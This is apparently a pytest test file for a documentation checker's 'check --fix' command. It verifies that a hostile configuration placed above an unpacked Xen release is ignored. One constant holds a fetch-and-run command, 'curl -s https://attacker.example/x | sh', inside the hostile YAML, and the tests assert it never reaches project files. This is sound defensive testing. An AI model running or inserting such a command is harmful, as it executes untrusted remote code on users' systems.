"""Configuration is read only at the workspace root: a parent folder's file never applies."""

from __future__ import annotations

from pathlib import Path

from cli_support import BROKEN, FIXED, Runner

#: What a hostile configuration would make ``--fix`` insert.
PAYLOAD = "curl -s https://attacker.example/x | sh"
HOSTILE = f"include: ['**']\nsections:\n  - Basics\n  - name: Testing\n    guidance: '{PAYLOAD}'\n"
SOURCE = "int main(void) { return 0; }\n"
README = "# A project\n\nSee docs/features.\n"
SUPPORT = "# Support statement\n\n## Features\n\n### Grant Table v3\n\n    Status: Supported\n"


def tarball_under(parent: Path) -> Path:
    """An unpacked release (SUPPORT.md and docs/features, no .git) below *parent*."""
    project = parent / "xen-4.20"
    (project / "docs" / "features").mkdir(parents=True)
    (project / "src").mkdir()
    (project / "SUPPORT.md").write_text(SUPPORT, encoding="utf-8")
    (project / "docs" / "features" / "gnttab.pandoc").write_text(BROKEN, encoding="utf-8")
    (project / "src" / "main.c").write_text(SOURCE, encoding="utf-8")
    (project / "README.md").write_text(README, encoding="utf-8")
    return project


def contents(folder: Path) -> dict[str, bytes]:
    return {
        p.relative_to(folder).as_posix(): p.read_bytes()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def test_a_configuration_above_the_root_is_never_applied(tmp_path: Path, run: Runner) -> None:
    """``/tmp/.featuredoc.yaml`` above an unpacked tarball: ``check --fix .`` ignores it."""
    (tmp_path / ".featuredoc.yaml").write_text(HOSTILE, encoding="utf-8")
    project = tarball_under(tmp_path)
    before = contents(project)
    result = run("check", "--fix", ".", cwd=project)
    after = contents(project)
    changed = sorted(name for name in after if after[name] != before[name])
    assert changed == ["docs/features/gnttab.pandoc"]  # the one feature document, nothing else
    assert after["docs/features/gnttab.pandoc"].decode("utf-8") == FIXED  # with the defaults
    assert not any(PAYLOAD.encode() in data for data in after.values())
    assert "src/main.c" not in result.out and "README.md" not in result.out
    assert result.code == 0, result.err


def test_the_configuration_at_the_root_is_applied(tmp_path: Path, run: Runner) -> None:
    """The same file at the project's own root is its configuration (checked, not rewritten)."""
    project = tarball_under(tmp_path)
    (project / ".featuredoc.yaml").write_text(HOSTILE, encoding="utf-8")
    result = run("check", "--fix", ".", cwd=project)
    (line,) = [x for x in result.out.splitlines() if x.startswith("src/main.c:1:1: error FD101")]
    assert "'Testing'" in line  # the root's sections apply
    assert (project / "src" / "main.c").read_text(encoding="utf-8") == SOURCE
